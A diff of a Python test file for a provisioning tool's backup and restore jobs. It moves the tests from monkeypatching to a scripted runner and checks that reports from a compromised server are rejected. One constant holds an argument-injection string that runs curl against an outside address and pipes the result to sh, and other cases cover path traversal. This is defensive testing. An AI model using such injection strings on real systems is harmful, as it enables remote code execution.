@@ -19,15 +19,17 @@ from provisioner.backups.repository import repository_for
 from provisioner.backups.service import request_restore
 from provisioner.config import Settings
 from provisioner.db import transaction
+from provisioner.engine.execute import run_claimed
+from provisioner.engine.sink import DatabaseSink
 from provisioner.instances.credentials import store_secrets
 from provisioner.jobs.service import create_job
 from provisioner.jobs.states import JobKind
 from provisioner.models import Alert, Backup, Instance, Job
-from provisioner.runner.spec import EventSink, RunnerEvent, RunOutcome, RunSpec
+from provisioner.runner.scripted import ScriptedRun, ScriptedRunner, succeeds
+from provisioner.runner.spec import RunnerEvent, RunOutcome, RunSpec
 from provisioner.timeutil import utcnow
-from provisioner.worker.backup_jobs import execute_backup_job
-from provisioner.worker.execution import DatabaseSink
 from tests.support import factories
+from tests.support.engine import scripted_context
 from tests.support.running import running_blog, unused_backup_target
 
 HOSTILE_ID = "--password-command=sh -c 'curl 192.0.2.66 | sh'"  # fits the column: 64 characters
@@ -40,19 +42,17 @@ def _report(snapshot_id: object, **summary: object) -> dict[str, object]:
     return {"snapshot_id": snapshot_id, "summary": counts, "paths": HOSTILE_PATHS}
 
 
-class ScriptedRuns:
-    """Stands in for the runner adapter: answers each playbook as a (compromised) server would."""
+def _scripted(report: object) -> ScriptedRunner:
+    """Answers each playbook as a (compromised) server would: the backup reports ``report``."""
 
-    def __init__(self, report: dict[str, object]) -> None:
-        self.report = report
-        self.ran: list[RunSpec] = []
+    def answer(spec: RunSpec) -> ScriptedRun:
+        if spec.playbook != "backup.yml":
+            return succeeds()
+        shown = "ok: [server] => " + json.dumps({"msg": report})
+        event = RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown)
+        return ScriptedRun(RunOutcome(status="successful", rc=0, error=None), events=(event,))
 
-    def __call__(self, spec: RunSpec, sink: EventSink, *, work_root: Path) -> RunOutcome:
-        self.ran.append(spec)
-        if spec.playbook == "backup.yml":
-            shown = "ok: [server] => " + json.dumps({"msg": self.report})
-            sink.emit(RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown))
-        return RunOutcome(status="successful", rc=0, error=None)
+    return ScriptedRunner(answer=answer)
 
 
 @pytest.fixture
@@ -62,15 +62,9 @@ def settings(db_url: str, tmp_path: Path) -> Settings:
     return Settings(data_dir=tmp_path, database_url=db_url, ssh_key_path=key)
 
 
-def _scripted(monkeypatch: pytest.MonkeyPatch, report: dict[str, object]) -> ScriptedRuns:
-    runs = ScriptedRuns(report)
-    monkeypatch.setattr(steps, "run_playbook", runs)
-    return runs
-
-
-def _execute(settings: Settings, job_id: str, kind: JobKind) -> None:
+def _execute(settings: Settings, runs: ScriptedRunner, job_id: str) -> None:
     sink = DatabaseSink(settings.resolved_database_url, job_id)
-    execute_backup_job(settings, factories.CATALOG, job_id, kind, sink)
+    run_claimed(scripted_context(settings, runs), job_id, sink)
 
 
 def _backup_job(settings: Settings) -> tuple[str, str]:
@@ -108,11 +102,11 @@ def _backup_job(settings: Settings) -> tuple[str, str]:
     ],
 )
 def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_is_kept(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, report: dict[str, object]
+    settings: Settings, report: dict[str, object]
 ) -> None:
-    _scripted(monkeypatch, report)
+    runs = _scripted(report)
     blog_id, job_id = _backup_job(settings)
-    _execute(settings, job_id, JobKind.BACKUP)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert job.status == "failed"
@@ -128,13 +122,11 @@ def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_i
         assert (alert.kind, alert.status) == ("backup_failed", "open")
 
 
-def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(settings: Settings) -> None:
     snapshot_id = secrets.token_hex(32)
-    _scripted(monkeypatch, _report(snapshot_id))
+    runs = _scripted(_report(snapshot_id))
     blog_id, job_id = _backup_job(settings)
-    _execute(settings, job_id, JobKind.BACKUP)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         assert session.get_one(Job, job_id).status == "succeeded"
         backup = session.scalars(select(Backup)).one()
@@ -186,12 +178,12 @@ def _restore_into_a_copy(settings: Settings, blog_id: str, backup_id: str) -> st
     ids=["snapshot-option", "dot-dot", "another-instance"],
 )
 def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, stored: dict[str, object]
+    settings: Settings, stored: dict[str, object]
 ) -> None:
-    runs = _scripted(monkeypatch, {})
+    runs = _scripted({})
     blog_id, backup_id = _stored_backup(settings, **stored)
     job_id = _restore_into_a_copy(settings, blog_id, backup_id)
-    _execute(settings, job_id, JobKind.RESTORE)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         job = session.get_one(Job, job_id)
         assert job.status == "failed"
@@ -203,9 +195,9 @@ def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
 
 @pytest.mark.parametrize("recorded_before", [False, True], ids=["derived", "recorded-before"])
 def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_names(
-    settings: Settings, monkeypatch: pytest.MonkeyPatch, recorded_before: bool
+    settings: Settings, recorded_before: bool
 ) -> None:
-    runs = _scripted(monkeypatch, {})
+    runs = _scripted({})
     blog_id, backup_id = _stored_backup(settings)
     # Recorded before paths were derived: restic 0.14's short id, absolute paths in Debian's Docker folder.
     root = "/var/lib/docker/volumes" if recorded_before else ""
@@ -216,7 +208,7 @@ def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_nam
             row.paths = {name: f"{root}/prv-{blog_id}-{name}/_data" for name in ("db", "content")}
         snapshot_id = row.snapshot_id
     job_id = _restore_into_a_copy(settings, blog_id, backup_id)
-    _execute(settings, job_id, JobKind.RESTORE)
+    _execute(settings, runs, job_id)
     with transaction(settings.resolved_database_url) as session:
         assert session.get_one(Job, job_id).status == "succeeded"
         copy_id = session.get_one(Job, job_id).instance_id
